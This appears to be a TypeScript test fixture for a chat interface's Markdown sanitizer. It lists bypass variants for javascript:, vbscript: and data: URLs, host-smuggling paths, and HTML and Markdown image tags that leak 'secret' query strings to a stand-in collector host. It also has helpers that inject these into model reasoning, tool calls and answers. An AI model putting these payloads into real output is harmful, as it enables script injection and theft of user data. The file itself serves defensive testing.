import type { StreamEvent } from "../../src/stream/events.js";

/** What the chats of the reports were given. */
export const reported = {
  schemes:
    "[open report](javascript:window.__hit=1) [b](JaVaScRiPt:window.__hit=1) [c](java\nscript:window.__hit=1) [d](data:text/html,hi) [e](vbscript:x)",
  entities: "[x](javascript&#58;window.__hit=1) [y](&#x6A;avascript:window.__hit=1) <javascript:window.__hit=1>",
  image: "Ok ![p](https://collector.example/p.png?q=secret-417) done",
  tags: '<img src="https://collector.example/a.svg?d=1"> <img src=//collector.example/b?d=2> ![r][k]\n\n[k]: https://collector.example/c?d=3',
  climbing: "![d](..//collector.example/p.svg) [k](/\\collector.example) [m](//collector.example)",
  names: ['<tool name="constructor">{}</tool>', '<tool name="__proto__">{}</tool>', '<tool name="toString">{}</tool>'],
  blocked: 'Use `<a role="x" id="i7"></a>` and <a id="i7"></a> here, file [plan](sandbox:/tmp/plan.pdf)',
  relative: "[guide](/docs/start) [part](#sec-2) [mail](mailto:team@example.org)",
} as const;

/** Addresses that run, open or read something, in the spellings that filters have missed. As Markdown has them. */
export const activeAddresses: readonly string[] = [
  "javascript:window.__hit=1",
  "JAVASCRIPT:window.__hit=1",
  "javascript://collector.example/%0Awindow.__hit=1",
  "javascript:window.__hit=1//https://collector.example",
  "javascript&colon;window.__hit=1",
  "&#106;&#97;vascript:window.__hit=1",
  "&#0000106avascript&#x3A;window.__hit=1",
  "java&Tab;script:window.__hit=1",
  "java&NewLine;script:window.__hit=1",
  "java&#13;script:window.__hit=1",
  "java&#9;script&#10;:window.__hit=1",
  "&#1;javascript:window.__hit=1",
  "&#32;&#10;javascript:window.__hit=1",
  "\u00a0javascript:window.__hit=1",
  "java\u200bscript:window.__hit=1",
  "java\u00adscript:window.__hit=1",
  "javascript\\:window.__hit=1",
  "javascript%3Awindow.__hit=1",
  "%6Aavascript:window.__hit=1",
  "view-source:javascript:window.__hit=1",
  "feed:javascript:window.__hit=1",
  "vbscript:window.__hit=1",
  "VbScRiPt:window.__hit=1",
  "livescript:window.__hit=1",
  "data:text/html,hi",
  "DATA:text/html;base64,aGk=",
  "data&#58;text/html,hi",
  "data:image/svg+xml,%3Csvg%2F%3E",
  "data:,hi",
  "blob:https://collector.example/0b9f",
  "filesystem:https://collector.example/temporary/x",
  "file:///etc/passwd",
  "about:blank",
  "intent://collector.example#Intent;end",
  "vscode://settings/x",
  "sandbox:/tmp/plan.pdf",
  "ws://collector.example/x",
];

/** The word `open` with that address, in every way in which Markdown makes a link or a picture. */
export function linkedAs(address: string): string {
  return [
    `[open](${address}) and [open](<${address}>) and [open](${address} "a title") and [**open**](${address})`,
    `![open](${address}) and [![open](${address})](${address}) and <${address}>`,
    `# [open](${address})`,
    `- [open](${address})\n- [ ] [open](${address})`,
    `> [open](${address})`,
    `| [open](${address}) |\n| --- |\n| [open](${address}) and [open][ref] |`,
    `[open][ref] and [ref][] and [ref] and ![open][ref] and open[^note]`,
    `[^note]: [open](${address})`,
    `[ref]: <${address}> "a title"`,
  ].join("\n\n");
}

/** Addresses without a scheme that name another host, or one that somebody behind the page may read as one. */
export const hostsInPaths: readonly string[] = [
  "//collector.example/x",
  "///collector.example/x",
  "////collector.example/x",
  "/\\collector.example/x",
  "\\\\\\\\collector.example/x",
  "\\\\/collector.example/x",
  "/&#92;collector.example/x",
  "/&bsol;&bsol;collector.example/x",
  "/&#9;/collector.example/x",
  "/&NewLine;/collector.example/x",
  "&#47;&#47;collector.example/x",
  "..//collector.example/x",
  "../..//collector.example/x",
  ".//collector.example/x",
  "./..//collector.example/x",
  "/.//collector.example/x",
  "/..//collector.example/x",
  "/docs/..//collector.example/x",
  "docs/..//collector.example/x",
  "docs/%2e%2e//collector.example/x",
  "docs/.%2E/\\collector.example/x",
  "/%5Ccollector.example/x",
  "/%2Fcollector.example/x",
  "%2F%2Fcollector.example/x",
  "/%09/collector.example/x",
  "a%3F/..//collector.example/x",
  "https:collector.example/x",
  "https:/collector.example/x",
  "http:\\\\\\\\collector.example/x",
  "https:///collector.example/x",
];

const place = "https://collector.example/p.png?d=secret";

/** Everything that a browser fetches by itself once it stands in a page. */
export const fetchedBySight: readonly string[] = [
  `![word](${place})`,
  `![word](<${place}> "a title")`,
  `![word](  ${place}  )`,
  `![word][k]\n\n[k]: ${place}`,
  `![word][]\n\n[word]: <${place}>`,
  `![word]\n\n[word]: ${place}`,
  `[![word](${place})](${place})`,
  `| ![word](${place}) |\n| --- |\n| ![word](${place}) |`,
  `# ![word](${place})\n\n> - ![word](${place})`,
  `word[^1]\n\n[^1]: ![word](${place})`,
  "![word](//collector.example/p.png)",
  "![word](/\\collector.example/p.png)",
  "![word](https&colon;//collector.example/p.png)",
  "![word](/p.png?d=secret)",
  "![word](p.png)",
  "![word](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='https://collector.example/p'/%3E%3C/svg%3E)",
  `word <img src="${place}"> word`,
  `word <IMG SRC=${place}> word`,
  `word <img/src="${place}"/onerror=window.__hit=1> word`,
  `<img srcset="${place} 1x, ${place} 2x">`,
  `<picture><source srcset="${place}"><img alt=word></picture>`,
  `<video poster="${place}" src="${place}" autoplay><track src="${place}"></video>`,
  `<audio src="${place}" autoplay></audio>`,
  `<svg><image href="${place}" xlink:href="${place}"/><use href="${place}#a"/><feImage href="${place}"/></svg>`,
  `word <svg><image href="${place}"/></svg> word`,
  `<div style="background:url(${place})">word</div>`,
  `word <span style="background-image:url('${place}')">word</span>`,
  `<style>@import url(${place}); * { background: url(${place}); cursor: url(${place}), auto }</style>`,
  `<link rel=stylesheet href="${place}"><link rel=prefetch href="${place}"><link rel=icon href="${place}">`,
  `<iframe src="${place}" srcdoc="<img src='${place}'>"></iframe>`,
  `<object data="${place}"></object><embed src="${place}">`,
  `<input type=image src="${place}"><table background="${place}"><tr><td>word</table><body background="${place}">`,
  `<meta http-equiv=refresh content="0;url=${place}"><base href="https://collector.example/">`,
  `<script src="${place}"></script><script>window.__hit=1</script>`,
  `<math><maction actiontype="statusline" xlink:href="${place}">word</maction></math>`,
  `<!-- <img src="${place}"> --> word\n\n<![CDATA[<img src="${place}">]]>`,
  `<details open ontoggle="window.__hit=1"><img src="${place}"></details>`,
  `\`\`\`html\nword <img src="${place}">\n\`\`\``,
  `\`<img src="${place}">\` word`,
];

/**
 * A turn in which the text stands wherever a model or a tool can put it: in a thought, in the words before a call, in the
 * call's arguments, in results of two shapes, in an error, in the answer. What a model writes comes in these pieces.
 */
export function everywhere(text: string, pieces: readonly string[] = [text]): StreamEvent[] {
  const written = (type: "text" | "reasoning", id: string): StreamEvent[] => [
    { type: `${type}-start`, id },
    ...pieces.map((delta): StreamEvent => ({ type: `${type}-delta`, id, delta })),
    { type: `${type}-end`, id },
  ];
  const called = (toolCallId: string): StreamEvent => ({
    type: "tool-input-available",
    toolCallId,
    toolName: "look",
    input: { note: text },
    providerExecuted: true,
  });
  return [
    { type: "start-step" },
    ...written("reasoning", "thought"),
    ...written("text", "commentary"),
    called("plain"),
    { type: "tool-output-available", toolCallId: "plain", output: `Two lines:\n${text}` },
    called("mcp"),
    { type: "tool-output-available", toolCallId: "mcp", output: { content: [{ type: "text", text }] } },
    called("failed"),
    { type: "tool-output-error", toolCallId: "failed", errorText: text },
    { type: "start-step" },
    ...written("text", "answer"),
    { type: "finish" },
  ];
}

/** Opens whatever is folded, and what that brings. */
export function openAll(root: ParentNode): void {
  for (const button of root.querySelectorAll<HTMLElement>(".tt-message button[aria-expanded=false]")) button.click();
}
